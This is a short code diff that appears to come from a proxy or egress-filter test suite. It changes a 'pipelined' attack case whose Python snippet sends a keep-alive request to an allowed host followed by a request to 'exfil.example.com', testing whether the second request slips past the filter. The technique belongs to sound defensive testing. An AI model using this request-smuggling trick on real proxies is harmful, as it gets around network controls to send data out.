@@ -225,7 +225,11 @@ export const proxyWords: AttackClass = {
         "pipelined",
         "a request to another host, right behind one to a host that was allowed",
         python(
-          `${speaker}say(get('http://ok.example.com/a','Connection: keep-alive')+get('http://exfil.example.com/'+str(PORT)))`,
+          `${speaker}s=open_to(H)
+s.settimeout(10)
+s.sendall((get('http://ok.example.com/a','Connection: keep-alive')+get('http://exfil.example.com/'+str(PORT))).encode())
+hear(s)
+hear(s)`,
         ),
       ),
       needs: ["curl", "python3"],
